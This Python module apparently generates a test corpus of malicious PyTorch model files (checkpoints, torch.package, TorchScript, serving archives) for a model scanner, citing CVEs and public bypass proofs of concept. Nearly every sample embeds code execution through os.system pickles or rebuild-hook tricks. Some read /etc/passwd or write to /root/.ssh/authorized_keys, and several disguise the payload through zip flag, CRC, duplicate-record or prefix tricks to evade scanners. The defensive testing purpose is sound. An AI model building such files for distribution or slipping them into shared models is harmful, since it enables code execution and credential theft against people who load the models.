"""Malicious torch files: zip and legacy checkpoints, torch.package, TorchScript, serving archives.

Written without torch. Layouts: `torch/serialization.py` (legacy streams, zip records), `torch/package`,
`caffe2/serialize/inline_container.h` (record names). Loading them needs torch, so they fire only where it is
installed (loader "torch").
"""

# ruff: noqa: E501 (one row a sample reads better than wrapped calls)

from __future__ import annotations

import io
import json
import tarfile
from collections.abc import Callable
from typing import Any

from .assembler import (
    BINPERSID,
    POP,
    PYTHON,
    SHELL,
    Op,
    call,
    evil,
    global_,
    line,
    pickle,
    stack_global,
    tuple_,
    value,
)
from .sample import Sample, write_bytes
from .zipcraft import Member, archive

_FLAGS = "CVE-2025-1945"
_MAGIC = 0x1950A86A20F9469CFC6C
_ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00\x3e\x00" + bytes(44)


def _tensor(key: str = "0") -> Op:
    """A float tensor of two elements as torch.save writes it."""
    storage = tuple_("storage", global_("torch", "FloatStorage"), key, "cpu", 2) + BINPERSID
    hooks = call(global_("collections", "OrderedDict"))
    return call(global_("torch._utils", "_rebuild_tensor_v2"), storage, 0, (2,), (1,), False, hooks)


def _state(extra: Op) -> bytes:
    return pickle(value({"weight": _tensor(), "epoch": extra}), 2)


_SYSTEM = call(global_("os", "system"), SHELL)


def _members(data: bytes, root: str = "archive", **options: Any) -> list[Member]:
    pairs = {"data.pkl": data, "byteorder": b"little", "data/0": bytes(8), "version": b"3\n"}
    return [
        Member(f"{root}/{name}".encode(), content, **(options if name == "data.pkl" else {}))
        for name, content in pairs.items()
    ]


def _torch(data: bytes, extra: tuple[Member, ...] = (), **options: Any) -> bytes:
    return archive([*_members(data, **options), *extra])


def _legacy(
    first: bytes | None = None, system: bytes | None = None, body: bytes | None = None, keys: bytes | None = None
) -> bytes:
    info = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    return b"".join(
        (
            first or pickle(value(_MAGIC), 2),
            pickle(value(1001), 2),
            system or pickle(value(info), 2),
            body or pickle(value({"epoch": 3}), 2),
            keys or pickle(value([]), 2),
        )
    )


def _legacy_tar() -> bytes:
    """The format of torch before 0.1.10: a tar of the files storages, tensors and pickle."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as target:
        for name, data in (
            ("storages", pickle(value(0), 2) + pickle(value([]), 2)),
            ("tensors", pickle(value(0), 2)),
            ("pickle", evil(2)),
        ):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            target.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def _package(model: bytes, code: str) -> bytes:
    files = {
        ".data/version": b"6\n",
        ".data/extern_modules": b"os\nbuiltins\n",
        ".data/python_version": b"3.11.7",
        "model/model.pkl": model,
        "model/__init__.py": code.encode(),
        "byteorder": b"little",
    }
    return archive([Member(f"package/{name}".encode(), data) for name, data in files.items()])


_SCRIPT_CODE = """class Model(Module):
  __parameters__ = []
  __buffers__ = []
  training : bool
  def forward(self: __torch__.Model,
    x: Tensor) -> Tensor:
    secret = torch.from_file("/etc/passwd", False, 64, dtype=0)
    _0 = torch.save(secret, "/tmp/violet_stolen")
    return x
"""


def _script(
    code: str, data: bytes | None = None, constants: bytes | None = None, extra: tuple[Member, ...] = ()
) -> bytes:
    module = call(global_("__torch__", "Model")) if data is None else Op(b"")
    files = {
        "model/data.pkl": pickle(module, 2) if data is None else data,
        "model/code/__torch__.py": code.encode(),
        "model/code/__torch__.py.debug_pkl": pickle(value(()), 2),
        "model/constants.pkl": constants or pickle(value(()), 2),
        "model/version": b"3\n",
    }
    return archive([*(Member(name.encode(), content) for name, content in files.items()), *extra])


_HONEST_SCRIPT = "class Model(Module):\n  def forward(self: __torch__.Model, x: Tensor) -> Tensor:\n    return x\n"


def _serving_archive() -> bytes:
    manifest = {
        "createdOn": "01/01/2026",
        "model": {"modelName": "m", "serializedFile": "model.pt", "handler": "handler.py"},
    }
    handler = f"import os\nos.system({SHELL!r})\n\ndef handle(data, context):\n    return data\n"
    return archive([
        Member(b"MAR-INF/MANIFEST.json", json.dumps(manifest).encode()),
        Member(b"handler.py", handler.encode()),
        Member(b"model.pt", _torch(_state(value(1)))),
    ])  # fmt: skip


_TABLE: list[tuple[str, str, Callable[[], bytes], str, str]] = [
    ("torch_zip.pt", "torch/zip", lambda: _torch(_state(_SYSTEM)), "torch", ""),
    ("torch_zip_only_payload.pth", "torch/zip-payload-only", lambda: _torch(evil(2)), "torch", ""),
    ("pytorch_model_state.bin", "torch/zip-named-bin", lambda: _torch(_state(_SYSTEM)), "torch", "CVE-2025-10155"),
    ("torch_zip.safetensors", "torch/zip-named-safetensors", lambda: _torch(_state(_SYSTEM)), "", ""),
    ("torch_int_desync.pt", "torch/int-base-0", lambda: _torch(bytes(line(b"I", "0x10") + POP) + evil(2)), "torch", "https://huggingface.co/TESTforge42/scanner-bypass-ptzip-int-desync"),
    ("torch_breaks.ckpt", "torch/executes-then-breaks", lambda: _torch(_state(_SYSTEM)[:-1] + b"\xff"), "torch", ""),
    ("torch_flag_encrypted.pt", "torch/flag-bit-encrypted", lambda: _torch(_state(_SYSTEM), central_flags=0, flags=1), "torch", _FLAGS),
    ("torch_flag_0x20.pt", "torch/flag-bit-0x20", lambda: _torch(_state(_SYSTEM), central_flags=0, flags=0x20), "torch", _FLAGS),
    ("torch_local_name.pt", "torch/local-name-differs", lambda: _torch(_state(_SYSTEM), local_name=b"archive/data.txt"), "torch", "CVE-2025-1944"),
    ("torch_wrong_crc.pt", "torch/wrong-crc", lambda: _torch(_state(_SYSTEM), crc=1), "", "CVE-2025-10156"),
    ("torch_duplicate.pt", "torch/duplicate-data-pkl", lambda: archive([*_members(_state(_SYSTEM)), Member(b"archive/data.pkl", _state(value(1)))]), "torch", "https://huggingface.co/Fitscha/modelscan-pytorch-dup-datapkl-bypass-poc"),
    ("torch_upper_case.pt", "torch/upper-case-record", lambda: archive([Member(m.name.replace(b"data.pkl", b"DATA.PKL"), m.data) for m in _members(evil(0))]), "torch", "https://huggingface.co/pauliquib/picklescan-zip-case-desync-poc"),
    ("torch_nonstandard_record.pt", "torch/other-pickle-file", lambda: _torch(_state(call(global_("torch.serialization", "load"), "config.json")), (Member(b"archive/config.json", evil(2)),)), "", "CVE-2025-1889"),
    ("torch_two_roots.pt", "torch/two-roots", lambda: archive([*_members(_state(_SYSTEM), "archive"), *_members(_state(value(1)), "benign")]), "", ""),
    ("torch_storage_pickle.pt", "torch/pickle-in-storage", lambda: _torch(_state(value(1)), (Member(b"archive/data/1", evil()),)), "", ""),
    ("torch_storage_elf.pt", "torch/executable-in-storage", lambda: _torch(_state(value(1)), (Member(b"archive/data/1", _ELF),)), "", ""),
    ("torch_load_from_bytes.pt", "torch/storage-load-from-bytes", lambda: _torch(_state(call(global_("torch.storage", "_load_from_bytes"), _legacy(body=evil(2))))), "torch", ""),
    ("torch_rebuild_abuse.pt", "torch/rebuild-with-planted-hooks", lambda: _torch(_state(call(global_("torch._utils", "_rebuild_wrapper_subclass"), global_("os", "system"), 0))), "", ""),
    ("torch_type_v2.pt", "torch/rebuild-from-type-v2", lambda: _torch(_state(call(global_("torch._tensor", "_rebuild_from_type_v2"), global_("os", "system"), global_("builtins", "object"), (SHELL,), {}))), "torch", ""),
    ("torch_persistent_call.pt", "torch/call-in-persistent-id", lambda: _torch(pickle(_SYSTEM + BINPERSID, 2)), "torch", ""),
    ("torch_getattr.pt", "torch/getattr-reach", lambda: _torch(_state(call(call(global_("builtins", "getattr"), global_("torch", "os"), "system"), SHELL))), "", ""),
    ("torch_prefixed.pt", "torch/zip-prefixed", lambda: b"\x89PNG\r\n\x1a\n" + _torch(_state(_SYSTEM)), "", ""),
    ("torch_pickle_magic.pt", "torch/bogus-magic-number", lambda: pickle(call(global_("torch.serialization", "_maybe_decode_ascii"), "x"), 2) + evil(2), "", "https://github.com/mmaitre314/picklescan"),
    ("legacy_body.pt", "torch/legacy-body", lambda: _legacy(body=evil(2)), "torch", "https://huggingface.co/BigOK/modelscan-legacy-pytorch-bypass-poc"),
    ("legacy_magic.pt", "torch/legacy-magic", lambda: _legacy(first=pickle(_SYSTEM + POP + value(_MAGIC), 2)), "torch", ""),
    ("legacy_system_info.ckpt", "torch/legacy-sys-info", lambda: _legacy(system=evil(2)), "torch", ""),
    ("legacy_storage_keys.bin", "torch/legacy-storage-keys", lambda: _legacy(keys=pickle(_SYSTEM + POP + value([]), 2)), "torch", "https://huggingface.co/cmpndry/modelscan-multipickle-poc"),
    ("legacy_plain.pth", "torch/plain-pickle", lambda: evil(2), "", ""),
    ("legacy_tar.pt", "torch/legacy-tar", _legacy_tar, "torch", "arXiv:2508.19774"),
    ("package_pickle.pt", "torch/package-pickle", lambda: _package(evil(), ""), "torch-package", "arXiv:2508.19774"),
    ("package_code.pt", "torch/package-code", lambda: _package(pickle(stack_global("model", "os")), f"import os\n{PYTHON}\n"), "torch-package", "arXiv:2508.19774"),
    ("script_file_ops.pt", "torchscript/file-ops", lambda: _script(_SCRIPT_CODE), "", ""),
    ("script_save_op.pt", "torchscript/ops-save", lambda: _script(_HONEST_SCRIPT.replace("return x", "ops.aten.save(x, '/root/.ssh/authorized_keys')\n    return x")), "", ""),
    ("script_data.pt", "torchscript/data-pickle", lambda: _script(_HONEST_SCRIPT, data=evil(2)), "", ""),
    ("script_constants.pt", "torchscript/constants-pickle", lambda: _script(_HONEST_SCRIPT, constants=evil(2)), "", ""),
    ("script_debug.pt", "torchscript/debug-pickle", lambda: _script(_HONEST_SCRIPT, extra=(Member(b"model/code/x.py.debug_pkl", evil(2)),)), "", ""),
    ("script_extra_python.pt", "torchscript/extra-python", lambda: _script(_HONEST_SCRIPT, extra=(Member(b"model/extra/setup.py", f"import os\nos.system({SHELL!r})\n".encode()),)), "", ""),
    ("script_bytecode.ptl", "torchscript/mobile-bytecode", lambda: _script(_HONEST_SCRIPT, extra=(Member(b"model/bytecode.pkl", evil(2)),)), "", ""),
    ("inductor_library.pt2", "torch/pt2-native-library", lambda: archive([Member(b"m/archive_format", b"pt2"), Member(b"m/version", b"0"), Member(b"m/data/aotinductor/model/model.so", _ELF)]), "", ""),
    ("exported_pickle.pt2", "torch/pt2-sample-inputs", lambda: archive([Member(b"m/archive_format", b"pt2"), Member(b"m/data/sample_inputs/model.pt", _torch(_state(_SYSTEM)))]), "", ""),
    ("serving.mar", "torch/serve-handler", _serving_archive, "", ""),
    ("lightning_parameters.ckpt", "torch/lightning-hyper-parameters", lambda: _torch(pickle(value({"state_dict": {}, "hyper_parameters": {"fn": _SYSTEM}, "pytorch-lightning_version": "2.0"}), 2)), "torch", ""),
    ("optimizer.pt", "torch/optimizer-state", lambda: _torch(pickle(value({"state": {0: _SYSTEM}, "param_groups": []}), 2)), "torch", ""),
]  # fmt: skip


def _sample(name: str, technique: str, content: Callable[[], bytes], loader: str, source: str) -> Sample:
    """torch is not part of the test environment: `fires` stays False and the loader is tried where torch exists."""
    return Sample(name, technique, True, False, write_bytes(name, content), loader, (), source)


SAMPLES = tuple(_sample(*row) for row in _TABLE)
